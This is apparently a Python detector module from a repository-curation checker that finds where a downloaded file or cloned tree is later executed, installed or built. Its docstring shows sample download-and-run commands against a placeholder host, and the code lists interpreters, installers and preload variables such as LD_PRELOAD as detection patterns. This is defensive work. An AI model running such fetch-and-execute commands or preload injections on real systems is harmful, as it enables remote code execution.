"""Files that come from elsewhere and are run later: under which names they are saved, and where those names are run.

    curl -so /tmp/t https://x.example/t        …many lines, or another file of the skill…        sh /tmp/t
    curl -s https://x.example/t.tgz | tar xz -C /opt/t && /opt/t/install
    git clone https://git.x.example/t ~/.t; cd ~/.t; make install

What is saved under one name and run under another is not seen; a download that is only read harms nobody here.
"""

import posixpath
import re
from collections.abc import Iterator
from typing import NamedTuple

from repo_server.curation.checks import late
from repo_server.curation.checks.document import Document
from repo_server.curation.checks.saves import SHORTEST, Save, plain
from repo_server.curation.checks.shell import commands_from, program_of

_MAX_RUNS = 4_000  # places looked at in one text
_LINES_INSIDE = 12  # behind a `cd` into what was fetched
_START_OF_COMMAND = "|;&\n(`{"

_INTERPRETERS = frozenset(
    [
        "sh",
        "cmd",
        "bash",
        "zsh",
        "dash",
        "ksh",
        "fish",
        "ash",
        "python",
        "python2",
        "python3",
        "pypy3",
        "perl",
        "ruby",
        "node",
        "nodejs",
        "deno",
        "bun",
        "tsx",
        "php",
        "lua",
        "Rscript",
        "julia",
        "pwsh",
        "powershell",
        "osascript",
        "tclsh",
        "groovy",
        "scala",
        "elixir",
        "source",
        ".",
        "exec",
        "eval",
        "call",
        "start",
        "start-process",
        "open",
        "xdg-open",
        "invoke-item",
        "wine",
        "mono",
        "java",
        "dotnet",
        "cscript",
        "wscript",
        "mshta",
        "rundll32",
        "regsvr32",
        "insmod",
        "strace",
        "ld.so",
        "run",
        "execute",
        "launch",
        "load",
        "require",
        "dofile",
        "nohup",
        "setsid",
        "crontab",
        "nu",
    ]
)
_INSTALLERS: dict[str, frozenset[str]] = {
    **dict.fromkeys(("dpkg", "rpm"), frozenset({"-i", "-U", "-Uvh", "-ivh", "--install"})),
    **dict.fromkeys(
        (
            "apt",
            "apt-get",
            "dnf",
            "yum",
            "zypper",
            "pip",
            "pip3",
            "pipx",
            "npm",
            "pnpm",
            "gem",
            "cargo",
            "brew",
            "snap",
        ),
        frozenset({"install", "i", "add"}),
    ),
    **dict.fromkeys(
        ("installer", "msiexec", "hdiutil", "code", "launchctl"),
        frozenset({"-pkg", "/i", "attach", "--install-extension", "load", "bootstrap"}),
    ),
}
_BUILDERS = frozenset(
    [
        "make",
        "gmake",
        "cmake",
        "ninja",
        "npm",
        "pnpm",
        "yarn",
        "bun",
        "cargo",
        "go",
        "docker",
        "docker-compose",
        "pip",
        "pip3",
        "bundle",
        "rake",
        "mvn",
        "gradle",
        "setup.py",
    ]
)
_PRELOADS = late.pattern(
    r"NODE_OPTIONS|LD_PRELOAD|DYLD_INSERT|BASH_ENV|PYTHONSTARTUP|PERL5OPT|RUBYOPT|JAVA_TOOL_OPTIONS|PROMPT_COMMAND"
)
_EXECUTABLE = late.pattern(r"[augo]{0,4}[+=][rwst]{0,3}x|[0-7]{0,3}[1357][0-7]{0,2}$")


class Run(NamedTuple):
    """A place at which such a name is run; *installed* when a package manager does it."""

    at: int
    save: Save
    installed: bool


def runs_of(document: Document, saves: list[Save], *, anywhere: bool = False) -> Iterator[Run]:
    """Yield where ``document`` runs one of ``saves``: behind it, or ``anywhere`` when it is another document's."""
    text, looked = document.joined, 0
    for save in {(save.name, save.tree): save for save in reversed(saves)}.values():
        if len(save.name) < SHORTEST:
            continue
        begin, needle = 0 if anywhere else save.at + 1, save.name.lower()
        while (at := document.lower.find(needle, begin)) >= 0:
            looked += 1
            if looked > _MAX_RUNS:
                document.crowded = True
                return
            begin = at + len(needle)
            if _is_word(text, at, begin) and (run := _run(text, at, save, anywhere=anywhere)) is not None:
                yield run
                break


def _is_word(text: str, begin: int, end: int) -> bool:
    before, after = text[max(0, begin - 1) : begin], text[end : end + 2]
    longer = after[:1].isalnum() or after[:1] in {"-", "_"} or (after[:1] == "." and after[1:].isalnum())
    return not (before.isalnum() or before in {"-", ".", "_"} or longer)


def _run(text: str, at: int, save: Save, *, anywhere: bool) -> Run | None:
    begin = max(text.rfind(sign, max(0, at - 400), at) for sign in _START_OF_COMMAND) + 1
    command = next(commands_from(text, begin), None)
    if command is None or (not anywhere and command.at <= save.at < command.end):
        return None
    if _PRELOADS.search(text[max(0, at - 200) : at].rpartition("\n")[2]):
        return Run(command.at, save, installed=False)
    words = program_of(command.words)
    if not words:
        return None
    name = words[0]
    named = [word for word in words[1:] if _names(word, save)]
    direct = _names(command.words[0] if name == posixpath.basename(command.words[0]) else name, save) and (
        "/" in text[max(begin, at - 3) : at + len(save.name) + 1]
        or "\\" in text[max(begin, at - 2) : at]
        or text[begin:at].strip() == "&"
    )
    if direct or (save.tree and name == "cd" and named and _works_inside(text, command.end)):
        return Run(command.at, save, installed=False)
    if not named:
        return None
    installs = _installs(name.lower(), words)
    runs = installs or _starts(name, words, save)
    return Run(command.at, save, installed=installs and not save.tree) if runs else None


def _installs(name: str, words: tuple[str, ...]) -> bool:
    return name in _INSTALLERS and bool(_INSTALLERS[name].intersection(words))


def _starts(name: str, words: tuple[str, ...], save: Save) -> bool:
    """Whether a command makes ``save`` executable, interprets it, or builds it."""
    lower = name.lower()
    if lower in {"chmod", "install"} and any(_EXECUTABLE.match(word) for word in words[1:]):
        return True
    interprets = lower in _INTERPRETERS or name in _INTERPRETERS
    return (interprets and _is_program(lower, words[1:], save)) or (save.tree and lower in _BUILDERS)


def _is_program(name: str, rest: tuple[str, ...], save: Save) -> bool:
    """Whether ``save`` is what the interpreter runs, and no argument of what it runs."""
    skip = False
    if name in {"powershell", "pwsh", "cmd", "wscript", "cscript"}:
        return True
    for word in rest:
        if _names(word, save) and not skip:
            return (
                word.strip() != save.name
                or name not in {"open", "run", "start"}
                or "/" in word
                or "." in word
            )
        skip = False
        if word in {"-c", "-e", "-m"}:
            return False
        if (
            not word.startswith(("-", "/"))
            and name not in {"start", "start-process", "java", "xdg-open"}
            and word not in {"<", "run"}
        ):
            return False
    return False


def _works_inside(text: str, at: int) -> bool:
    """Whether one of the next lines builds or runs something, before the folder is left."""
    end = at
    for _ in range(_LINES_INSIDE):
        end = text.find("\n", end + 1)
        if end < 0:
            end = len(text)
            break
    for line in re.split(r"\n|&&|;", text[at:end])[1:]:
        words = program_of(tuple(line.split()))
        if line.strip().startswith(("```", "cd ..", "cd -", "cd /")):
            return False
        if words and (
            words[0] in _BUILDERS or words[0] in _INTERPRETERS or re.match(r"\s*(?:sudo )?\./", line)
        ):
            return True
    return False


def _names(word: str, save: Save) -> bool:
    word = plain(word.lstrip("<@&").strip("\"'"))
    if save.tree:
        return save.name in word.split("/")
    return word.rpartition("/")[2] == save.name
